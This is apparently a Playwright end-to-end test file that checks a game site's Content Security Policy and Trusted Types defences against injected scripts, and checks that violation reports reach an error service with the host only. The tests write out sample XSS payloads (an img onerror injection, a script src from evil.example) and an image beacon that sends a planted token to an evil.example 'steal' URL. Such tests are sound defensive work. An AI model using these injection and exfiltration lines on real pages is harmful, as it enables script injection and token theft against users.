import type { Page } from '@playwright/test';
import { expect } from '../../support/expect.ts';
import { shortenIdleWait } from '../../support/e2e/fastTimers.ts';
import { test } from '../../support/e2e/test.ts';
import { localeTexts } from '../../support/e2e/localeTexts.ts';

/** Collects the browser's CSP violation reports from the start of the page. */
async function collectReports(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const reports: string[] = [];
    Object.assign(globalThis, { reports });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      reports.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return () => page.evaluate(() => (globalThis as unknown as { reports: readonly string[] }).reports);
}

test.use({ viewport: { width: 1440, height: 900 } });

for (const [display, tag] of [
  ['off', ' @deep'],
  ['house', ' @deep'],
  ['google', ''],
] as const) {
  test(`a game plays without a content security policy violation with display advertising “${display}”${tag}`, async ({
    world,
    page,
    player,
    troubles,
  }) => {
    const reports = await collectReports(page);
    const testWorld = await world({ scenario: 'plays-with-advertising', config: { ads: { display } } });
    const answer = await page.goto(testWorld.playUrl);
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy.includes("'strict-dynamic'")).toBe(display === 'google');
    expect(policy.includes(`script-src 'self' `)).toBe(display !== 'google');
    await player.plays(testWorld);
    const space = page.locator('[data-ad-space="leaderboard"]');
    await expect(space).toHaveAttribute('data-shows', display === 'off' ? 'kept' : 'filled', { timeout: 20_000 });
    expect(await reports()).toEqual([]);
    troubles.expect(/inline event handler|Trusted/);
    // The CSP blocks and reports an injected script. With Trusted Types the injection itself throws.
    await page.evaluate(() => {
      const image = document.createElement('img');
      image.setAttribute('src', 'data:,');
      try {
        image.setAttribute('onerror', 'globalThis.broken = true');
      } catch {
        // Trusted Types blocked the injection.
      }
      document.body.append(image);
    });
    const stopped = display === 'google' ? /^script-src-attr inline$/ : /^(require-trusted-types-for|script-src-attr) /;
    await expect.poll(reports).toEqual([expect.stringMatching(stopped)]);
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
  });
}

test('Trusted Types block text as markup or script URL, and block the creation of further policies', async ({
  openHome,
  page,
  troubles,
}) => {
  troubles.expect(/Trusted|Content Security Policy/);
  await openHome();
  await expect(page.getByRole('link', { name: 'Play Skyhop' }).first()).toBeVisible();
  const tried = await page.evaluate(() => {
    const outcome = (action: () => unknown) => {
      try {
        action();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown; defaultPolicy: unknown };
    };
    return {
      markup: outcome(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
      parsed: outcome(() => new DOMParser().parseFromString('<p>x</p>', 'text/html')),
      script: outcome(() => (document.createElement('script').src = 'https://evil.example/x.js')),
      worker: outcome(() => new Worker('/sw.js')),
      policy: outcome(() => trustedTypes.createPolicy('mine', { createHTML: (text: string) => text })),
      again: outcome(() => trustedTypes.createPolicy('nowlight-page', { createHTML: (text: string) => text })),
      standard: trustedTypes.defaultPolicy,
    };
  });
  const stopped = 'TypeError';
  expect(tried).toEqual({
    markup: stopped,
    parsed: stopped,
    script: stopped,
    worker: stopped,
    policy: stopped,
    again: stopped,
    standard: null,
  });
  // A click navigates without a reload: the app parses the next document itself.
  await page.getByRole('link', { name: 'Details of Skyhop' }).first().click();
  await expect(page.getByRole('heading', { level: 1, name: 'Skyhop' })).toBeVisible();
});

test('a content security policy violation is reported to the error service once, with the host only', async ({
  openHome,
  page,
  troubles,
}) => {
  troubles.expect(/Content Security Policy|Trusted/);
  await shortenIdleWait(page);
  const testWorld = await openHome({
    config: { country: 'DE', measures: { errors: true } },
  });
  await page.getByRole('button', { name: localeTexts('en', 'privacy')('accept') }).click({ timeout: 30_000 });
  const breaches = async () =>
    (await testWorld.journal())
      .filter(({ name }) => name === 'errors.envelope')
      .map(({ data }) => JSON.stringify(data))
      .filter((text) => text.includes('policy-breach'));
  await expect(async () => {
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/steal/ana?token=at_planted';
    });
    expect(await breaches()).toHaveLength(1);
  }).toPass({ timeout: 20_000 });
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/steal/ben?token=at_planted_2';
  });
  const [breach = ''] = await breaches();
  expect(breach).toContain('https://evil.example');
  expect(breach).not.toMatch(/planted|steal|token/);
  expect(await breaches()).toHaveLength(1);
});
